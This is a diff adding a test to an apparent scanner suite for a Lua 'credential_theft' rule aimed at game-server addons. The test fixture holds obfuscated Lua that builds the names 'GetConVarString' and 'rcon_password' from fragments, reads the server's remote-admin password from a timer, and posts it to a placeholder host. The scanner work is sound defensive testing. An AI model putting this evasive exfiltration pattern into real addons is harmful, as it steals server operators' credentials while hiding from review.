@@ -70,4 +70,18 @@ describe('credential_theft', () => {
     });
     expect(findings).toEqual([]);
   });
+  it('the password read through a helper calling getfenv() under a built name, from a timer', () => {
+    // The timer names nothing watched: it matters only as a caller of the helper.
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'local env = getfenv()',
+        'local function cv(n) return env["GetCon" .. "VarString"](n) end',
+        'timer.Simple(60, function()',
+        ' local k = cv("rcon" .. "_pass" .. "word")',
+        ' env["ht" .. "tp"]["Po" .. "st"]("https://x.invalid/s", { k = k })',
+        'end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
+  });
 });
